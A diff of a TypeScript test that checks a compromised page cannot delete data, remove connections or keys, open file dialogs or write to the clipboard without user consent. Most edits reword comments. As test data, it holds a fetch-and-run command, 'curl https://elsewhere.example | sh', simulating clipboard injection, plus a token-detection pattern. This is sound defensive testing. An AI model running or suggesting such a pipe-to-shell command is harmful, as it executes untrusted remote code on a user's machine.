@@ -1,6 +1,6 @@
 /**
- * Check S15: a compromised page makes every call without user input, with one input for several calls, or with input
- * meant for something else; or the user denies the dialog.
+ * Check S15: a compromised page changes and sends nothing without the user's consent. The page makes every call without
+ * user input, with one input for several calls, or with input meant for something else; or the user denies its dialog.
  */
 import { bridgeAlone, type PageEvent } from '../support/bridge-alone.ts';
 import { startPracticeThread, type PracticeService } from '../practice/practice.ts';
@@ -14,7 +14,7 @@ import { dose, some } from '../support/nightly.ts';
 import { draftFor } from '../support/services.ts';
 import { App, withClock, type MovedClock } from './scene.ts';
 
-/** Text that a compromised page would put on the clipboard. */
+/** Text that a compromised page would like to put on the clipboard, for example to be pasted into a terminal. */
 const OWN_TEXT = 'curl https://elsewhere.example | sh';
 const HOUR_S = 3600;
 
@@ -22,7 +22,7 @@ interface Scene {
   readonly app: App;
   readonly practice: PracticeService;
   readonly clock: MovedClock;
-  /** Arguments for calls that need this test's data to have an effect. Other calls use the contract's examples. */
+  /** Real arguments for calls that otherwise have no effect, such as ids. Other calls use the contract's examples. */
   readonly args: Readonly<Record<string, unknown>>;
   readonly dialogs: () => number;
 }
@@ -60,7 +60,7 @@ async function inScene(clock: MovedClock, play: Play): Promise<readonly Case[]> 
     const { connectionId } = app;
     const [paper] = practice.samplePapers;
     const ids = [...(await practice.contents()).boards];
-    // The delay before a delete starts is longer than the check, so pending deletes send nothing.
+    // Delays deletes for longer than the check lasts, so that no pending delete sends a request.
     const holdSeconds = { single: HOUR_S, bulk: HOUR_S };
     await app.must('app.prefer', { ...DEFAULT_PREFERENCES, holdSeconds });
     const reviewId = await app.review(ids);
@@ -91,7 +91,7 @@ async function inScene(clock: MovedClock, play: Play): Promise<readonly Case[]> 
   }
 }
 
-/** Replaces the example ids of a call's arguments by real ones, and the host of join links by another host. */
+/** Replaces the example ids in a call's arguments by real ones, and the host of join links by another host. */
 function argsFor(name: CallName, { args, practice }: Scene): never {
   const own = Object.keys(GOOD_ARGS[name]).filter((field) => field in args);
   const real = { ...GOOD_ARGS[name], ...Object.fromEntries(own.map((field) => [field, args[field]])) };
@@ -123,7 +123,7 @@ async function alone(scene: Scene): Promise<readonly Case[]> {
 const LIST = { tagName: 'DIV' };
 const FIELD = { tagName: 'INPUT', type: 'text' };
 
-/** User input that must not count as consent to a call: typing, corrections, letters in a list, navigation keys. */
+/** User input that must not count as consent: typing, corrections, letters in a list, and navigation keys. */
 const TYPING: readonly PageEvent[] = [
   ...['T', ' ', '7', 'Backspace', 'Delete'].map((key) => ({ key, target: FIELD })),
   ...['a', 'c'].map((key) => ({ key, ctrlKey: true, target: FIELD })),
@@ -136,7 +136,7 @@ const TYPING: readonly PageEvent[] = [
 async function typedAway(scene: Scene): Promise<readonly Case[]> {
   const bridge = await bridgeAlone();
   const cases: Case[] = [];
-  // All tests share the bridge, so the input of an earlier test may count as consent for a few seconds.
+  // All tests share the bridge, so an input of an earlier test may count as consent for a few seconds.
   const { number: earlier } = bridge.press();
   for (const name of wanting(scene)) {
     for (const event of TYPING) bridge.happens(event);
@@ -149,10 +149,10 @@ async function typedAway(scene: Scene): Promise<readonly Case[]> {
   return [...cases, { name: 'all together', problems: await changesOf(scene) }];
 }
 
-/** Calls that remove the connection or its keys. They come last, because the other calls need both. */
+/** Calls that remove the connection or its keys, and so come last, because the other calls need both. */
 const LAST: readonly CallName[] = ['connections.remove', 'lock.removeKeys'];
 
-/** Makes each call after a click that was meant for something else, and answers its dialog with no. */
+/** Makes each call after a click that the user meant for something else. The user denies the call's dialog. */
 async function stolen(scene: Scene): Promise<readonly Case[]> {
   const bridge = await bridgeAlone();
   const cases: Case[] = [];
@@ -165,7 +165,7 @@ async function stolen(scene: Scene): Promise<readonly Case[]> {
   ];
   let before = await guardedOf(scene);
   for (const [name, own] of plays) {
-    // Moves the clock past the rate limits of the calls.
+    // Advances the clock, so that no call hits its rate limit.
     clock.ahead += 2000;
     bridge.happens({ type: 'pointerdown', target: LIST });
     await app.services.pressOnce(bridge.press())(name, own as never);
@@ -183,7 +183,7 @@ const PLAYS: readonly (readonly [what: string, play: Play])[] = [
   ['while a person types and moves', typedAway],
 ];
 
-/** Returns as text the state that only a confirmed dialog may change. */
+/** Returns, as texts, the parts of the state that may change only after the user confirms a dialog. */
 async function guardedOf({ app, practice, args }: Scene): Promise<Readonly<Record<string, string>>> {
   const { must: get } = app.services;
   const { connections } = await get('connections.list', {});
@@ -201,20 +201,20 @@ async function guardedOf({ app, practice, args }: Scene): Promise<Readonly<Recor
   };
 }
 
-/** Returns a sentence for each request, file dialog and clipboard text that the page's calls caused. */
+/** Returns one sentence for each request, file dialog or clipboard text that the page's calls caused. */
 async function leftMain({ app, practice, dialogs }: Scene): Promise<readonly string[]> {
   const { log } = await practice.requests();
   const sent = log
     .filter(({ method }) => method !== 'GET')
     .map(({ method, path }) => `${method} ${path} was sent`);
-  // Calls that copy ids and rows need no click, because main composes these texts and they reveal no secret.
+  // Allows copied ids and rows without a click, because main composes these texts and they contain no secret.
   const text = app.services.clipboard();
   const isSecret = /token=|eyJ/u.test(text) || text.includes(OWN_TEXT);
   const copied = isSecret ? ['a text of the page, a link or a token went to the clipboard'] : [];
   return [...sent, ...copied, ...(dialogs() === 0 ? [] : ['a dialog for files was opened'])];
 }
 
-/** Returns a sentence for each request, queued job and changed connection that the page's calls caused. */
+/** Returns one sentence for each request, queued job or changed connection that the page's calls caused. */
 async function changesOf(scene: Scene): Promise<readonly string[]> {
   const { app, args } = scene;
   const jobs = await app.services.call('jobs.list', {});
